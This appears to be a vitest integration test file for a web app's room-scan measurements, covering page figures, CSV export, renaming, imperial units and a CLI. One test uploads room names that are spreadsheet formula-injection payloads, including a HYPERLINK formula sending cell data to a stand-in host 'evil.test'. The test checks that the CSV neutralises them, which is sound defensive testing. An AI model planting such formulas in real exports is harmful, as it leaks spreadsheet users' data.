import { parse } from 'csv-parse/sync';
import { beforeEach, expect, it } from 'vitest';
import { measureScan, scansToMeasure } from '../../../src/domain/scans/measure-scan.js';
import { describeEachBackend } from '../../helpers/backends.js';
import type { Person } from '../../helpers/admin-security.js';
import { useAdminFixture } from '../../helpers/admin-fixture.js';
import { cliJson } from '../../helpers/cli.js';
import { rectangularRoom } from '../../fixtures/roomplan.js';

describeEachBackend('scan measurements on the Scans screens, in the CSV and the CLI', (backend) => {
  const f = useAdminFixture(backend);
  let scanId: string;
  let body: string;
  beforeEach(async () => {
    const rooms = [
      {
        name: 'Kitchen',
        ...rectangularRoom({
          width: 4.2,
          length: 3.1,
          height: 2.45,
          yaw: 0.3,
          doors: [{ wall: 0, offset: 1, width: 0.82, height: 2.04 }],
          windows: [{ wall: 1, offset: 1.5, width: 1.2, height: 1.1 }],
        }),
      },
      { name: 'Hall', ...rectangularRoom({ width: 1.5, length: 5, height: 2.45, at: [4, 0], missingWalls: [1] }) },
      { name: '<b>Attic</b>', notes: 'no geometry here' },
    ];
    body = JSON.stringify({ rooms });
    const res = await f.app.inject({
      method: 'POST',
      url: '/api/scan/upload',
      headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' },
      payload: body,
    });
    expect(res.statusCode).toBe(200);
    scanId =
      res.json<{ scanIds?: string[]; id?: string }>().id ??
      (
        await f.world.store.db
          .selectFrom('scans')
          .select('id')
          .where('workspace_id', '=', f.home.workspaceId)
          .orderBy('received_at', 'desc')
          .executeTakeFirstOrThrow()
      ).id;
  });

  const get = (url: string, as: Person = f.owner) =>
    f.app.inject({ method: 'GET', url, headers: { cookie: as.cookie } });
  const ws = (rest: string) => `/w/${f.home.workspaceId}${rest}`;

  it('the page shows each room’s figures, the totals and a plan; the CSV has the same numbers; the bytes stay exact', async () => {
    const page = await get(ws(`/scans/${scanId}`));
    expect(page.statusCode).toBe(200);
    // 4.2 × 3.1 = 13.02 m² and 1.5 × 5 = 7.5 m²: 20.52 m² in all: areas to 0.01 m² on the page and in the CSV.
    expect(page.body).toContain('<td data-label="Floor area" class="num" id="total-floor-area">20.52 m²</td>');
    expect(page.body).toMatch(/title="floor outline \(polygonCorners\)">13\.02 m²</);
    expect(page.body).toContain('do not close around the floor');
    expect(page.body.match(/<svg class="floor-plan"/g)).toHaveLength(2);
    // The room that was not read: said so, its JSON shown escaped, never run.
    expect(page.body).toContain('No measurements recognized');
    expect(page.body).toContain('&lt;b&gt;Attic&lt;/b&gt;');
    expect(page.body).not.toContain('<b>Attic</b>');

    const csv = await get(ws(`/scans/${scanId}/measurements.csv`));
    expect(csv.statusCode).toBe(200);
    const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => [r.name, r.floorArea_m2, r.recognized])).toEqual([
      ['Kitchen', '13.02', 'yes'],
      ['Hall', '7.50', 'yes'],
      ['<b>Attic</b>', '', 'no'],
    ]);
    for (const row of rows.filter((r) => r.floorArea_m2)) expect(page.body).toContain(`>${row.floorArea_m2} m²<`);

    const bytes = await get(ws(`/scans/${scanId}/body`));
    expect(bytes.body).toBe(body);
    // The list shows the scan's total, from the kept figures (no body is read to list).
    expect((await get(ws('/scans?scans=all'))).body).toContain('<td data-label="Floor area" class="num">20.52 m²</td>');
  });

  it('Rename on the scan page: the name shows on the page, the list and the CSV; a blank one is refused beside its room', async () => {
    const post = (url: string, fields: Record<string, string>, as: Person = f.member) =>
      f.app.inject({
        method: 'POST',
        url,
        headers: { cookie: as.cookie, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ _csrf: as.csrf, ...fields }).toString(),
      });
    const page = await get(ws(`/scans/${scanId}`));
    expect(page.body).toContain(`action="/w/${f.home.workspaceId}/scans/${scanId}/rooms/2/rename"`);
    expect(page.body).toContain('<summary>Rename</summary>');

    // A member renames (as they attach); the stored bytes stay as they came.
    const renamed = await post(ws(`/scans/${scanId}/rooms/2/rename`), { name: 'Front hall & stairs' });
    expect(renamed.statusCode).toBe(303);
    expect(renamed.headers.location).toBe(ws(`/scans/${scanId}?notice=room-renamed`));
    const after = await get(ws(`/scans/${scanId}`));
    expect(after.body).toContain('<strong id="room-name-2">Front hall &amp; stairs</strong>');
    expect(after.body).toContain('<strong>2. Front hall &amp; stairs</strong>');
    expect((await get(ws('/scans?scans=all'))).body).toContain(
      'Kitchen, Front hall &amp; stairs, &lt;b&gt;Attic&lt;/b&gt;',
    );
    expect((await get(ws(`/scans/${scanId}/body`))).body).toBe(body);

    // The measurements download is named after the job and the scan's day, not the scan's id.
    const csv = await get(ws(`/scans/${scanId}/measurements.csv`));
    const day = new Date().toISOString().slice(0, 10);
    expect(csv.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="Scan measurements \\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(String(csv.headers['content-disposition'])).toContain(day.slice(0, 4));
    expect(
      (parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>).map((r) => r.name),
    ).toEqual(['Kitchen', 'Front hall & stairs', '<b>Attic</b>']);

    // Blank: the page again (400), the message beside that room's field, its Rename open with what was typed.
    const blank = await post(ws(`/scans/${scanId}/rooms/1/rename`), { name: '   ' });
    expect(blank.statusCode).toBe(400);
    expect(blank.body).toMatch(
      /<details class="rename" open><summary>Rename<\/summary>[\s\S]*?id="rename-1"[^>]*aria-invalid="true"/,
    );
    expect(blank.body).toContain('<p class="field-error" id="rename-1-error">Give the room a name.</p>');
    expect(blank.body).toContain('<strong id="room-name-1">Kitchen</strong>');
    // A room that is not there is not found.
    expect((await post(ws(`/scans/${scanId}/rooms/9/rename`), { name: 'Attic' })).statusCode).toBe(404);
  });

  it('room names that a spreadsheet would run are guarded in the CSV; the numbers stay numbers', async () => {
    const names = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '@SUM(1+1)', '+1+2;=3'];
    const rooms = names.map((name, i) => ({ name, ...rectangularRoom({ width: 4, length: 2 + i, height: 2.5 }) }));
    const up = await f.app.inject({
      method: 'POST',
      url: '/api/scan/upload',
      headers: { 'x-scan-key': f.home.uploadKey, 'content-type': 'application/json' },
      payload: JSON.stringify({ rooms }),
    });
    expect(up.statusCode).toBe(200);
    const hostileId = (
      await f.world.store.db
        .selectFrom('scan_rooms')
        .select('scan_id')
        .where('name', '=', '@SUM(1+1)')
        .executeTakeFirstOrThrow()
    ).scan_id;
    const csv = await get(ws(`/scans/${hostileId}/measurements.csv`));
    expect(csv.statusCode).toBe(200);
    const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.name)).toEqual([
      `'=HYPERLINK("http://evil.test/?"&A1,"click")`,
      "'@SUM(1+1)",
      "'+1+2;'=3",
    ]);
    expect(rows.map((r) => [r.room, r.floorArea_m2, r.perimeter_m, r.doors])).toEqual([
      ['1', '8.00', '12.00', '0'],
      ['2', '12.00', '14.00', '0'],
      ['3', '16.00', '16.00', '0'],
    ]);
    // No cell, split on `;` or `,` as some spreadsheets do, begins a formula.
    const text = csv.rawPayload.toString('utf8');
    for (const part of text.split(/[;,\r\n]/)) expect(part.replace(/^"/, '').trimStart()).not.toMatch(/^[=+@]/);
  });

  it('imperial units: ft² and feet-and-inches everywhere, from the same kept figures', async () => {
    await f.app.inject({
      method: 'POST',
      url: ws('/settings'),
      headers: { cookie: f.owner.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({
        _csrf: f.owner.csrf,
        name: 'Home',
        timeZone: 'UTC',
        units: 'imperial',
      }).toString(),
    });
    const page = await get(ws(`/scans/${scanId}`));
    // 20.52 m² = 220.9 ft².
    expect(page.body).toContain('id="total-floor-area">221 ft²</td>');
    expect(page.body).toContain('>13′ 9″<'); // the kitchen's 4.2 m wall on its plan
    const rows = parse((await get(ws(`/scans/${scanId}/measurements.csv`))).rawPayload, {
      bom: true,
      columns: true,
    }) as Array<Record<string, string>>;
    expect(rows[0]).toMatchObject({ name: 'Kitchen', floorArea_ft2: '140' });
  });

  it('measured after commit by the sweep, and again when the reader improves; the CLI prints the same', async () => {
    expect(await scansToMeasure(f.world.ctx, 10)).toContain(scanId);
    // A sweep that has caught up looks only at scans received since its last look.
    const received = (
      await f.world.store.db
        .selectFrom('scans')
        .select('received_at')
        .where('id', '=', scanId)
        .executeTakeFirstOrThrow()
    ).received_at;
    expect(await scansToMeasure(f.world.ctx, 10, received)).toContain(scanId);
    expect(await scansToMeasure(f.world.ctx, 10, new Date(Date.parse(received) + 1).toISOString())).not.toContain(
      scanId,
    );
    await measureScan({ ctx: f.world.ctx, input: { scanId } });
    expect(await scansToMeasure(f.world.ctx, 10)).not.toContain(scanId);
    // A row from an older reader is measured again.
    await f.world.store.db.updateTable('scan_measurements').set({ version: 0 }).where('scan_id', '=', scanId).execute();
    expect(await scansToMeasure(f.world.ctx, 10)).toContain(scanId);

    const env = { DATABASE_URL: f.world.testDb.url, APP_SECRET: f.world.appSecret };
    const measured = await cliJson<{ floorArea: number; units: string; table: { rows: string[][] } }>(
      ['scans', 'measure', scanId],
      env,
    );
    expect(measured.units).toBe('metric');
    expect(measured.floorArea).toBeCloseTo(20.52, 2);
    expect(measured.table.rows.map((r) => [r[1], r[3]])).toEqual([
      ['Kitchen', '13.02'],
      ['Hall', '7.50'],
      ['<b>Attic</b>', ''],
    ]);
  });
});
